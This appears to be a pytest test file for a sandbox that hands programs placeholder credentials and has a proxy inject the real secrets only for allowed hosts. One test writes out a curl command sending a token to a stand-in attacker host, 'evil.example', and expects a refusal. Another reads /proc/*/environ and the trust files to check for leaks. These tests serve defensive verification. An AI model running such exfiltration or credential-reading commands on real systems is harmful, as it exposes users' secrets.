"""Proves: programs inside a real sandbox use credentials that they never see, each trusting what it has to."""

import base64
import os
import shutil
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from services.worker.runner.secrets import SessionSecrets
from services.worker.sandbox import SandboxManager, inspecting
from services.worker.sandbox.local import LocalProvider
from tests.support.injection import Hosts, Vault, hosts, secrets_of, variable

from .conftest import LIMITS, Session

OPEN = {"network": {"type": "unrestricted"}}
VALUE = "s3cret-value-0123456789"


@pytest.fixture
async def found(monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Hosts]:
    async with hosts() as running:
        monkeypatch.setattr(inspecting, "trust_store", running.trust)
        yield running


class Made:
    """A session with secrets in a real sandbox."""

    def __init__(self, session: Session, secrets: SessionSecrets, vault: Vault, root: Path) -> None:
        self.session, self.secrets, self.vault, self.root = session, secrets, vault, root

    async def text(self, command: str) -> str:
        return await self.session.text(command)

    async def placeholder(self, name: str = "TOKEN") -> str:
        return next(each.text for each in await self.secrets.placeholders() if each.name == name)


@pytest.fixture
async def make(found: Hosts, tmp_path: Path, make_manager) -> AsyncIterator:
    managers: list[SandboxManager] = []

    def make(*credentials, environment=OPEN, kind: str = "bubblewrap") -> Made:
        vault = Vault(*(credentials or (variable("TOKEN", VALUE, "api.example"),)))
        secrets = secrets_of(vault)
        root = tmp_path / "sandboxes"
        provider = LocalProvider(
            root,
            limits=LIMITS,
            kind=kind,
            resolve=found.resolve,
            connect=found.connect,
            secrets_of=lambda session_id: secrets if session_id == "sess_one" else None,
        )
        if provider.describe().kind != kind:
            pytest.skip(f"{kind}: {' '.join(provider.describe().notes)}")
        manager = SandboxManager(root, providers={"local": provider})
        managers.append(manager)
        return Made(Session(manager, "sess_one", environment), secrets, vault, root)

    yield make
    for manager in managers:
        await manager.aclose()


# Its own fetch looks at the proxy from version 24 on.
NODE = """
const proxy = new URL(process.env.https_proxy);
const asking = require("http").request({host: proxy.hostname, port: proxy.port, method: "CONNECT",
  path: "api.example:443"});
asking.on("connect", (_, socket) => {
  const headers = {authorization: `Bearer ${process.env.TOKEN}`};
  require("https").get({host: "api.example", path: "/it", socket, agent: false, headers}, answer => {
    answer.on("data", data => console.log(String(data)));
    answer.on("end", () => process.exit(0));
  });
});
asking.end();
"""
CLIENTS = {
    "curl": 'curl -sS -H "Authorization: Bearer $TOKEN" https://api.example/it',
    "curl-user": 'curl -sS -u "me:$TOKEN" https://api.example/it',
    "curl-plain": 'curl -sS -H "Authorization: Bearer $TOKEN" http://api.example/it',
    "python": (
        'python3 -c \'import os, urllib.request as u; r = u.Request("https://api.example/it", '
        'headers={"Authorization": "Bearer " + os.environ["TOKEN"]}); print(u.urlopen(r).read().decode())\''
    ),
    "node": f"node -e '{NODE}'",
    "git": 'git ls-remote "https://me:$TOKEN@api.example/private/it" 2>&1 || true',
}


@pytest.mark.parametrize("client", CLIENTS)
async def test_a_program_uses_what_it_never_sees(found: Hosts, make, client: str) -> None:
    program = client.partition("-")[0]
    if shutil.which("python3" if program == "python" else program) is None:
        pytest.skip(f"{program} is not installed")
    one = make()
    if (await one.session.bash(f"command -v {program.replace('python', 'python3')}")).is_error:
        pytest.skip(f"{program} is not in the sandbox")
    output = await one.text(CLIENTS[client])
    sent = [seen.headers.get("Authorization", "") for seen in found.seen if seen.path.startswith(("/it", "/private"))]
    given = [base64.b64decode(each.removeprefix("Basic ")).decode() if "Basic" in each else each for each in sent]
    assert given, output
    # git asks without a password first, and says in the end that this is no repository.
    assert given[-1] in (f"Bearer {VALUE}", f"me:{VALUE}"), (given, output)
    assert VALUE not in output


async def test_a_program_beside_the_shell_uses_what_it_never_sees(found: Hosts, make) -> None:
    if shutil.which("curl") is None:
        pytest.skip("curl is not installed")
    one = make()
    command = f'printf "%s " "$TOKEN"; {CLIENTS["curl"]}; cat'
    program = await one.session.sandbox.start_program(["bash", "-c", command], {}, 1 << 16)
    try:
        assert await program.stdout.readuntil(b"ok") == f"{await one.placeholder()} ok".encode()
        assert len(list(one.root.glob("sess_one/.trust/*"))) == 1
    finally:
        await program.close(0)
    assert [seen.headers["Authorization"] for seen in found.seen] == [f"Bearer {VALUE}"]
    assert not list(one.root.glob("sess_one/.trust/*"))


async def test_the_environment_holds_placeholders_and_nothing_else(found: Hosts, make) -> None:
    one = make(variable("TOKEN", VALUE, "api.example"), variable("ANY_TOKEN", "other-" + VALUE))
    shown = await one.text("env; cat /proc/*/environ | tr '\\0' '\\n'; cat /run/trust/*")
    assert f"TOKEN={await one.placeholder()}" in shown and f"ANY_TOKEN={await one.placeholder('ANY_TOKEN')}" in shown
    assert VALUE not in shown and "PRIVATE KEY" not in shown
    assert not one.vault.asked


async def test_variables_of_the_platform_stay_what_they_are(found: Hosts, make) -> None:
    one = make(variable("PATH", VALUE), variable("SSL_CERT_FILE", VALUE), variable("https_proxy", VALUE))
    shown = await one.text("env")
    assert "PATH=/usr" in shown.replace(":/usr", "=/usr") and "https_proxy=http://127.0.0.1" in shown
    assert "SSL_CERT_FILE=/run/trust/bundle.pem" in shown


async def test_a_refusal_reads_as_one(found: Hosts, make) -> None:
    one = make(variable("TOKEN", VALUE, "api.example"), variable("ANY", VALUE[::-1]))
    shown = await one.text('curl -sS -H "X-Token: $TOKEN" https://evil.example/ -w "%{http_code}"')
    assert "TOKEN may not be sent to evil.example" in shown and shown.endswith("403")
    assert [each.credential_id for each in one.secrets.take_problems()] == ["vcrd_token"]


async def test_placeholders_differ_by_session_and_stay_the_same_for_one(make) -> None:
    one = make()
    first = await one.placeholder()
    again = next(each.text for each in await secrets_of(one.vault).placeholders())
    assert first == again
    other = secrets_of(one.vault, one.secrets.owner.__class__("wrkspc_default", "sess_two", ("vlt_1",)))
    assert next(each.text for each in await other.placeholders()) != first


async def test_a_host_that_the_environment_closes_is_told(found: Hosts, make) -> None:
    one = make(environment={"network": {"type": "limited", "allowed_hosts": ["other.example"]}})
    await one.text("true")
    (problem,) = one.secrets.take_problems()
    assert "api.example" in problem.message and problem.vault_id == "vlt_1"


async def test_without_any_network_a_placeholder_is_all_there_is(found: Hosts, make) -> None:
    one = make(environment={})
    assert await one.text('printf %s "$TOKEN"') == await one.placeholder()
    assert (await one.session.bash("test -e /run/trust")).is_error
    assert not one.vault.asked and not found.dialled


async def test_a_vault_that_is_down_starts_no_shell_and_says_so(found: Hosts, make) -> None:
    one = make()
    one.vault.is_down = True
    outcome = await one.session.bash("true")
    assert outcome.is_error and "credentials can't be asked for" in outcome.text
    one.vault.is_down = False
    assert await one.text("echo works") == "works"


async def test_what_was_written_for_a_shell_goes_with_it(found: Hosts, make) -> None:
    one = make()
    await one.text("true")
    trust = one.root / "sess_one" / ".trust"
    assert len(os.listdir(trust)) == 1
    await one.session.tool("bash", restart=True)
    await one.text("true")
    assert len(os.listdir(trust)) == 1
    await one.session.sandbox.close()
    assert not os.listdir(trust)


async def test_a_session_without_vaults_pays_nothing(found: Hosts, make) -> None:
    one = make()
    plain = Session(one.session.sandbox._manager, "sess_two", OPEN)
    shown = await plain.text("env; ls /run 2>/dev/null; true")
    assert "SSL_CERT_FILE" not in shown and "trust" not in shown and "TOKEN" not in shown
    await plain.text("curl -sS http://api.example/plain")
    assert not (one.root / "sess_two" / ".trust").exists()
    assert not one.vault.listed and not one.vault.asked


async def test_where_nothing_is_isolated_only_unrestricted_values_are_given_and_scrubbed(found: Hosts, make) -> None:
    limited, free = variable("TOKEN", "limited-" + VALUE, "api.example"), variable("FREE", "free-" + VALUE)
    one = make(limited, free, kind="process")
    shown = await one.text('printf "%s|%s|" "$TOKEN" "$FREE"; printf %s "$FREE" | base64; printf "%s" ${#FREE}')
    assert VALUE not in shown and base64.b64encode(free.value.encode()).decode()[:12] not in shown
    assert shown.startswith("||".replace("||", "|[secret FREE removed]|")) and shown.endswith(str(len(free.value)))
    flood = await one.session.bash('for n in $(seq 9000); do echo "$n $FREE"; done')
    assert flood.overflow is not None
    spilled = (one.root / "sess_one" / flood.overflow["path"].removeprefix("/")).read_text()
    assert VALUE not in spilled and spilled.count("[secret FREE removed]") == 9000
    assert flood.overflow["file_bytes"] == len(spilled.encode())
